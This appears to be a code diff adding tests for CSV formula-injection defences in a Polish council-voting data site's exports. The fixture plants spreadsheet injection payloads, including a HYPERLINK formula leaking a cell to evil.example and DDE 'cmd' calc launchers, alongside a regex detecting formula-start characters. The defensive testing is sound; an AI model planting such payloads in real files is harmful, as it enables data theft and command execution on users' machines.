@@ -11,11 +11,13 @@ import { RADOSKOP_CREDIT, SEJM_CREDIT } from '../core/credit.ts';
 import { BULK_FILES, BulkExports, BulkScopeError, bulkColumns, bulkDescription } from '../src/exports/bulk.ts';
 import { type CsvColumn, csvField, writeCsv } from '../src/exports/csv.ts';
 import { writeListCsv } from '../src/exports/list.ts';
+import { LIST_DOWNLOADS } from '../src/site/lists.ts';
 import { OutputClosedError } from '../src/exports/text-writer.ts';
 import { generateBundle } from '../tools/generate/index.ts';
 import { writeBundle } from './support/bundle.ts';
 import { appOver, buildDatabase, removeDir, tempDir, type TestApp } from './support/fixture.ts';
 import { HAND_COUNCIL } from './support/hand-council.ts';
+import type { Bundle } from './support/bundle.ts';
 
 /** Collects what is written, as a response would receive it. */
 function collector(): { out: PassThrough; text: () => string } {
@@ -71,7 +73,7 @@ describe('RFC 4180', () => {
   });
 
   it('a parser reads back every value written, header first, CRLF line ends, no BOM', async () => {
-    const values = ['zwykły', 'z, przecinkiem', 'z "cudzysłowem"', 'dwie\nlinie', 'dwie\r\nlinie', '', ' spacja ', 'ąćęłńóśźż ĄĆĘŁŃÓŚŹŻ', '=1+1'];
+    const values = ['zwykły', 'z, przecinkiem', 'z "cudzysłowem"', 'dwie\nlinie', 'dwie\r\nlinie', '', ' spacja ', 'ąćęłńóśźż ĄĆĘŁŃÓŚŹŻ', 'a=1+1'];
     const columns: CsvColumn<string>[] = [{ name: 'wartosc', description: '', value: (v) => v }, { name: 'dlugosc', description: '', value: (v) => v.length }];
     const { out, text } = collector();
     expect(await writeCsv(out, columns, [values.slice(0, 4), values.slice(4)])).toBe(values.length);
@@ -256,5 +258,78 @@ describe('the list writer', () => {
       expect(readCsv(text()).map((r) => Number(r['n']))).toEqual(Array.from({ length: size }, (_, i) => i));
       expect(reads, String(size)).toEqual(pages);
     }
+  });
+});
+
+describe('formulas in the data (OWASP CSV injection, issue 34)', () => {
+  /** Texts a spreadsheet would run, in every kind of text column of the hand council. */
+  const FORMULAS = {
+    title: '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")', // vote 1
+    name: '+cmd|\' /C calc\'!A0', // councillor 1
+    group: '-2+3+cmd|\' /C calc\'!A0', // group 1
+    body: '@SUM(1+1)*cmd|\' /C calc\'!A0', // body 1
+    session: '\t=1+1', // session 1's number
+    sessionName: '\r=1+1', // session 2's name
+    otherTitle: '＝1+1', // vote 2 (a full-width equals sign)
+  };
+  const STARTS_FORMULA = /^[=+\-@\t\r＝＋－＠]/;
+  let hostile: TestApp;
+
+  beforeAll(async () => {
+    const bundle = JSON.parse(JSON.stringify(HAND_COUNCIL)) as Bundle;
+    const edit = (file: string, key: string, id: number, values: Record<string, string>) => Object.assign(bundle[file]!.find((r) => r[key] === id)!, values);
+    edit('glosowania.csv', 'id_glosowania', 1, { tytul: FORMULAS.title });
+    edit('radni.csv', 'id_osoby', 1, { imie_nazwisko: FORMULAS.name });
+    edit('ugrupowania.csv', 'id_ugrupowania', 1, { nazwa: FORMULAS.group });
+    edit('organy.csv', 'id_organu', 1, { nazwa: FORMULAS.body });
+    edit('posiedzenia.csv', 'id_posiedzenia', 1, { numer: FORMULAS.session });
+    edit('posiedzenia.csv', 'id_posiedzenia', 2, { nazwa: FORMULAS.sessionName });
+    edit('glosowania.csv', 'id_glosowania', 2, { tytul: FORMULAS.otherTitle });
+    const dir = tempDir();
+    dirs.push(dir);
+    await writeBundle(dir, bundle);
+    hostile = appOver(await buildDatabase(dir), { RESPONSE_CACHE_MB: 0 });
+  });
+
+  afterAll(() => hostile?.close());
+
+  it('csvField puts an apostrophe before a text that starts a formula; numbers and other texts stay as they are', () => {
+    expect(csvField('=1+1')).toBe("'=1+1");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\t=1')).toBe("'\t=1");
+    expect(csvField('\r=1')).toBe('"\'\r=1"');
+    expect(csvField(FORMULAS.title)).toBe(`"'${FORMULAS.title.replaceAll('"', '""')}"`);
+    expect(csvField(-1)).toBe('-1');
+    expect(csvField('a-1')).toBe('a-1');
+    expect(csvField(' =1')).toBe(' =1');
+  });
+
+  it('no field of any CSV of the site (the bulk files of /dane/, every list) starts a formula; each text is there, neutralised', async () => {
+    const token = (await request(hostile.app).get('/api/radni/1')).body.data.token as string;
+    const urls = [
+      ...BULK_FILES.map((file) => `/dane/${file}.csv`),
+      ...BULK_FILES.map((file) => `/dane/1/2014-2018/${file}.csv`),
+      ...LIST_DOWNLOADS.map(({ route }) => route.replace(':token', token).replace(':id', '1')),
+    ];
+    const seen = new Set<string>();
+    for (const url of urls) {
+      const res = await request(hostile.app).get(url);
+      expect(res.status, url).toBe(200);
+      for (const record of parse(res.text, { record_delimiter: '\r\n' }) as string[][]) {
+        for (const field of record) {
+          expect(STARTS_FORMULA.test(field) && !/^-\d+(\.\d+)?$/.test(field), `${url}: ${JSON.stringify(field)}`).toBe(false);
+          if (field.startsWith("'")) seen.add(field.slice(1));
+        }
+      }
+    }
+    for (const [where, text] of Object.entries(FORMULAS)) expect(seen.has(text), `${where}: ${JSON.stringify(text)}`).toBe(true);
+  });
+
+  it('/dane/ and its opis.txt say so', async () => {
+    const page = await request(hostile.app).get('/dane/');
+    expect(page.text).toContain('ma na początku apostrof');
+    const opis = await request(hostile.app).get('/dane/opis.txt');
+    expect(opis.text).toContain('ma na początku apostrof');
   });
 });
